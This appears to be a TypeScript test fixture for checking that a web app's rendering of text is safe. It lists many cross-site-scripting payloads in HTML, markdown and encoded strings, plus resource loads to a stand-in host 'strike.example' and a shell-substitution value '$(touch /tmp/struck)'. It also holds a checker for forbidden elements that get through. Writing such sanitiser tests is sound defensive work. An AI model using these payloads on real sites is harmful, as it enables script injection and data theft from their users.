/** What each payload would run, beside requests to a host. */
const strike = "window.struck?.()";

const elementsTo = (host: string): readonly string[] => [
  `<script>${strike}</script>`,
  `<script src=${host}/a.js></script>`,
  `<SCRIPT>${strike}</SCRIPT>`,
  `<scr<script>ipt>${strike}</scr</script>ipt>`,
  `<img src=x onerror="${strike}">`,
  `<img src=${host}/p.png>`,
  `<img srcset="${host}/p.png 1x">`,
  `<IMG """><SCRIPT>${strike}</SCRIPT>">`,
  `<svg onload="${strike}">`,
  `<svg><script>${strike}</script></svg>`,
  `<svg><animate onbegin="${strike}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${host}/x.svg#a"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:${strike}"></iframe></foreignObject></svg>`,
  `<math><mtext><style><img src=x onerror="${strike}"></style></mtext></math>`,
  `<iframe src="${host}"></iframe>`,
  `<iframe srcdoc="<script>parent.struck()</script>"></iframe>`,
  `<object data="${host}/x"></object>`,
  `<embed src="${host}/x">`,
  `<video><source onerror="${strike}"></video>`,
  `<audio src=x onerror="${strike}">`,
  `<video poster="${host}/p.png"></video>`,
  `<link rel=stylesheet href="${host}/x.css">`,
  `<link rel=prefetch href="${host}/x">`,
  `<link rel=dns-prefetch href="//strike.example">`,
  `<style>@import "${host}/x.css"; body{background:url(${host}/b)}</style>`,
  `<div style="background:url(${host}/b)">x</div>`,
  `<base href="${host}/">`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<form action="${host}"><button autofocus>x</button></form>`,
  `<form><button formaction="javascript:${strike}">x</button></form>`,
  `<input autofocus onfocus="${strike}">`,
  `<details open ontoggle="${strike}">x</details>`,
  `<marquee onstart="${strike}">x</marquee>`,
  `<body onload="${strike}">`,
  `<table background="${host}/b"><tr><td>x</td></tr></table>`,
  `<a href="javascript:${strike}">x</a>`,
  `<a href="data:text/html,<script>${strike}</script>">x</a>`,
  `<template><script>${strike}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${strike}>"></noscript>`,
  `<custom-element onclick="${strike}">x</custom-element>`,
  `<webview src="${host}"></webview>`,
  `<portal src="${host}"></portal>`,
  `<textarea></textarea><script>${strike}</script>`,
  `<title></title><script>${strike}</script>`,
  `--><script>${strike}</script><!--`,
  `]]><script>${strike}</script>`,
  `<![CDATA[<script>${strike}</script>]]>`,
  `<!--<img src="--><img src=x onerror=${strike}//">`,
  `<p/onmouseover="${strike}">x</p>`,
  `<x contenteditable onblur="${strike}">x</x>`,
];

const markdownTo = (host: string): readonly string[] => [
  `[x](javascript:${strike})`,
  `[x](JaVaScRiPt:${strike})`,
  `[x](java\tscript:${strike})`,
  `[x](&#106;avascript:${strike})`,
  `[x](\u0001javascript:${strike})`,
  `[x](vbscript:${strike})`,
  `[x](data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd)`,
  `[x](//strike.example/x)`,
  `[x](smb://strike.example/share)`,
  `[x](belay://app/index.html)`,
  `![x](${host}/p.png)`,
  `![x](http://strike.example/p.png?q=secret)`,
  `![x](//strike.example/p.png)`,
  `![x](javascript:${strike})`,
  `![x][ref]\n\n[ref]: ${host}/p.png`,
  `[![x](${host}/p.png)](${host})`,
  `<${host}/auto>`,
  `<javascript:${strike}>`,
  `[x]: javascript:${strike}\n\n[x]`,
  `[x](${host} "\\" onmouseover=\\"${strike}")`,
  `\`\`\`html\n<script>${strike}</script>\n\`\`\``,
  `\`\`\`"><script>${strike}</script>\nx\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${strike}> |`,
  `- [ ] <img src=x onerror=${strike}>`,
  `# <svg onload=${strike}>`,
  `> <iframe src=${host}></iframe>`,
  `**<script>${strike}</script>**`,
  `x[^1]\n\n[^1]: <img src=x onerror=${strike}>`,
  `&lt;script&gt;${strike}&lt;/script&gt;`,
  `\\<script>${strike}\\</script>`,
];

const strings = [
  `'"><script>${strike}</script>`,
  `" onmouseover="${strike}" x="`,
  `';${strike};//`,
  `\`;${strike};\``,
  "${" + strike + "}",
  "{{constructor.constructor('struck()')()}}",
  `javascript:${strike}`,
  `\u202E<script>${strike}</script>`,
  `\u0000<script>${strike}</script>`,
  `\uFEFF<img src=x onerror=${strike}>`,
  `\u001B]8;;javascript:${strike}\u0007x\u001B]8;;\u0007`,
  `\u001B[31m<script>${strike}</script>\u001B[0m`,
  `＜script＞${strike}＜/script＞`,
  `%3Cscript%3E${strike}%3C/script%3E`,
  `&#60;script&#62;${strike}&#60;/script&#62;`,
  `\\u003cscript\\u003e${strike}`,
  `+ADw-script+AD4-${strike}+ADw-/script+AD4-`,
  `__proto__`,
  `constructor`,
  `<script>${strike}</script>.ts`,
  `src/"><img src=x onerror=${strike}>.ts`,
  `$(touch /tmp/struck)`,
];

/** Texts that would run, load or lead to this host, were they ever taken for more than text. */
export const hostileTextsTo = (host: string): readonly string[] =>
  [...elementsTo(host), ...markdownTo(host), ...strings].map((text) =>
    text.replaceAll("//strike.example", `//${new URL(host).host}`),
  );

export const hostileTexts = hostileTextsTo("https://strike.example");

/** Elements that no text may bring into a page of ours. */
const forbiddenElements =
  "script, iframe, object, embed, frame, link, style, base, meta, form, video, audio, source, portal, webview, template, math, marquee, foreignObject, animate, img";

/** What is wrong with a part of a page that shows hostile text: elements, handlers and addresses that only text can have brought. */
export function faultsOf(part: ParentNode): string[] {
  const brought = [...part.querySelectorAll(forbiddenElements)].map(({ tagName }) => tagName);
  const attributes = [...part.querySelectorAll("*")].flatMap((element) =>
    element.getAttributeNames().filter((name) => {
      const value = element.getAttribute(name) ?? "";
      if (name.startsWith("on") || ["srcdoc", "formaction", "background"].includes(name))
        return true;
      if (name === "href") return !/^(?:https?:\/\/|mailto:|#)/.test(value);
      return name === "src" || (name === "style" && /url\(/.test(value));
    }),
  );
  return [...brought, ...attributes];
}
